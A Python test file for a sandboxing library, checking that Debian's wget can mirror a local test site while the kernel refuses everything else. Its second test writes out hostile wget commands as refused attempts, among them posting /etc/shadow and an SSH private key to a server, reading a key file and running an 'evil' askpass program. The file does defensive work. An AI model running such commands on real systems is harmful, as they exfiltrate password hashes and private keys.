# SPDX-License-Identifier: Apache-2.0
"""std/wget with Debian's wget: mirrors into its directory, and nothing else."""
import confine
from confine import KEY, SHADOW, Attempt, Web, gone, made, printed

POLICY = confine.using("wget")


class Wget(confine.Proof):
    def test_mirrors_a_site(self):
        page = '<a href="sub/one">1</a> <a href="sub/two">2</a>'
        for uid in confine.users():
            with confine.Place(uid) as place, Web(page) as web:
                sets = [f"wget.files={place.path('app')}", f"wget.ports={web.number}"]
                command = ["/usr/bin/wget", "-nv", "-r", "-l", "2", "-nH", "-P", place.path("app/site"),
                           f"http://127.0.0.1:{web.number}/"]
                self.same(place, POLICY, command, sets, "/usr/bin/wget",
                          result=lambda _, place=place: place.read("app/site/sub/one") + place.read("app/site/index.html"))
                self.assertIn("/sub/two", web.asked)

    def test_the_kernel_refuses_all_else(self):
        for uid in confine.users():
            with confine.Place(uid) as place, Web("text") as web, Web("other") as other:
                sets = [f"wget.files={place.path('app')}", f"wget.ports={web.number}"]
                key, outside, ran = place.path("home/.ssh/id_ed25519"), place.path("outside/made"), place.path("outside/ran")
                wget = ["/usr/bin/wget", "-t", "1", "-O", "-"]
                url = f"http://127.0.0.1:{web.number}/"
                shadow = [Attempt("read shadow", [*wget, "--post-file=/etc/shadow", url], lambda _, web=web: SHADOW in web.sent(),
                                  undo=web.asked.clear)] if uid == 0 else []
                self.refused(place, POLICY, shadow + [
                    Attempt("read a key", [*wget, "-B", url, "-i", key], lambda _, web=web: "planted" in web.sent(),
                            undo=web.asked.clear),
                    Attempt("send a key", [*wget, "--post-file=" + key, url], lambda _, web=web: KEY in web.sent(),
                            undo=web.asked.clear),
                    Attempt("write outside", ["/usr/bin/wget", "-O", outside, url], made(outside), undo=gone(outside)),
                    Attempt("log outside", [*wget, "-o", outside, url], made(outside), undo=gone(outside)),
                    Attempt("connect elsewhere", [*wget, f"http://127.0.0.1:{other.number}/"], printed("other")),
                    Attempt("run a program for a password", [*wget, "--use-askpass=" + place.path("outside/evil"), url], made(ran),
                            "Error spawning", undo=gone(ran)),
                ], sets)
                self.assertEqual(other.asked.count("/"), 1)


if __name__ == "__main__":
    confine.main()
